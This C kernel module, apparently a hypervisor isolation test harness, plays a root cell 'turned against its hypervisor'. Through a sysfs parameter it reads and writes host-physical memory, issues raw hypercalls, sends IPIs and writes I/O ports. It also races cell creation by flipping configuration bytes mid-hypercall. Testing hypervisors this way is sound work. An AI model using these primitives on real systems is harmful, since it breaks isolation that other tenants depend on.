// SPDX-License-Identifier: GPL-2.0-only
// A root cell's kernel that has turned against its hypervisor. Orders are written to /sys/module/rogue/parameters/order; each is carried out in the kernel, on
// the CPU that it names. What the hypervisor stops does not come back: then `answer` says so after a second.
//
//   read CPU ADDRESS        a byte of host-physical memory, by a mapping of its own
//   write CPU ADDRESS       the same, written
//   call CPU NUMBER A B     a raw hypercall
//   create CPU FILE         hypercall 1 with a firmware file's bytes in memory of its own
//   race CPU FILE TIMES     the same, TIMES over, while another CPU changes the bytes; what is created is destroyed
//   ipi CPU APIC COMMAND    writes the interrupt command: low word COMMAND, to the local APIC APIC
//   out CPU PORT VALUE      a byte; out2: two bytes

#include <linux/delay.h>
#include <linux/firmware.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <asm/apic.h>

struct order {
	char what[16], file[32];
	unsigned int cpu;
	unsigned long a, b, c;
	void *memory;
	size_t size;
	long result;
	bool done;
};

static struct order order;
static char answer[96] = "none";
module_param_string(answer, answer, sizeof(answer), 0444);

static long vmcall(unsigned long code, unsigned long first, unsigned long second)
{
	long result = code;

	asm volatile("vmcall" : "+a" (result) : "D" (first), "S" (second) : "memory");
	return result;
}

static void command(unsigned int apic, u32 low)
{
	u32 base, high;

	rdmsr(MSR_IA32_APICBASE, base, high);
	if (base & X2APIC_ENABLE) {
		wrmsr(0x830, low, apic);
		return;
	}
	native_apic_mem_write(APIC_ICR2, apic << 24);
	native_apic_mem_write(APIC_ICR, low);
}

static void obey(void *unused)
{
	if (!strcmp(order.what, "read"))
		order.result = READ_ONCE(*(u8 *)order.memory);
	else if (!strcmp(order.what, "write"))
		WRITE_ONCE(*(u8 *)order.memory, 0x90);
	else if (!strcmp(order.what, "call"))
		order.result = vmcall(order.a, order.b, order.c);
	else if (!strcmp(order.what, "ipi"))
		command(order.a, order.b);
	else if (!strcmp(order.what, "out"))
		outb(order.b, order.a);
	else if (!strcmp(order.what, "out2"))
		outw(order.b, order.a);
	smp_store_release(&order.done, true);
}

/* The driver numbers a cell before it asks; here nobody does. */
#define CELL_ID 40
#define SOME_ID 5
static void fill(const struct firmware *file)
{
	memcpy(order.memory, file->data, order.size);
	if (order.size > CELL_ID + 4)
		*(u32 *)((u8 *)order.memory + CELL_ID) = SOME_ID;
}

/* Flips bytes of the configuration until it is told to stop, in its own time: a create takes some milliseconds. */
static int change(void *unused)
{
	u32 state = 0x1234567;

	while (!kthread_should_stop()) {
		u8 *byte;

		state = state * 1664525 + 1013904223;
		byte = (u8 *)order.memory + (state >> 8) % order.size;
		WRITE_ONCE(*byte, *byte ^ (1 << (state >> 29)));
		usleep_range((state >> 8) % 50000, (state >> 8) % 50000 + 100);
	}
	return 0;
}

/* Created, created as somebody else, refused: how often. */
static void race(const struct firmware *file)
{
	struct task_struct *other = kthread_run(change, NULL, "rogue");
	unsigned long turn, made = 0, kept = 0;

	for (turn = 0; turn < order.b; turn++) {
		long id;

		fill(file);
		id = vmcall(1, virt_to_phys(order.memory), 0);
		if (id >= 0) {
			/* It has the number that the bytes said when they were read. */
			unsigned int number, gone = 0;

			made++;
			for (number = 1; number < 64; number++)
				if (vmcall(6, number, 0) == 2 && !vmcall(4, number, 0))
					gone++;
			if (gone != 1)
				kept++;
		}
		cond_resched();
	}
	if (!IS_ERR(other))
		kthread_stop(other);
	snprintf(answer, sizeof(answer), "created %s, %s left", made ? "sometimes" : "never", kept ? "something" : "nothing");
}

static int set(const char *text, const struct kernel_param *parameter)
{
	const struct firmware *file = NULL;
	unsigned int waited;
	int error = 0;

	memset(&order, 0, sizeof(order));
	strcpy(answer, "none");
	if (sscanf(text, "create %u %31s", &order.cpu, order.file) == 2 ||
	    sscanf(text, "race %u %31s %lu", &order.cpu, order.file, &order.b) == 3)
		sscanf(text, "%15s", order.what);
	else if (sscanf(text, "%15s %u %li %li %li", order.what, &order.cpu, &order.a, &order.b, &order.c) < 2)
		return -EINVAL;
	if (order.file[0]) {
		error = request_firmware_direct(&file, order.file, NULL);
		if (error)
			return error;
		order.size = file->size;
		order.memory = kmalloc(file->size, GFP_KERNEL);
		if (!order.memory) {
			release_firmware(file);
			return -ENOMEM;
		}
		fill(file);
		if (!strcmp(order.what, "race")) {
			race(file);
			goto out;
		}
		strcpy(order.what, "call");
		order.a = 1;
		order.b = virt_to_phys(order.memory);
	} else if (!strcmp(order.what, "read") || !strcmp(order.what, "write")) {
		order.memory = ioremap_cache(order.a, PAGE_SIZE);
		if (!order.memory)
			return -ENOMEM;
	}
	error = smp_call_function_single(order.cpu, obey, NULL, 0);
	for (waited = 0; !error && waited < 100 && !smp_load_acquire(&order.done); waited++)
		msleep(10);
	if (smp_load_acquire(&order.done))
		snprintf(answer, sizeof(answer), "%ld", order.result);
	else
		snprintf(answer, sizeof(answer), "CPU %u does not come back", order.cpu);
out:
	release_firmware(file);
	/* Mappings and memory stay: somebody may still hold them. */
	return error;
}

static const struct kernel_param_ops operations = { .set = set };
module_param_cb(order, &operations, NULL, 0200);

static int __init rogue_init(void)
{
	return 0;
}
module_init(rogue_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A root cell's kernel that has turned against its hypervisor");
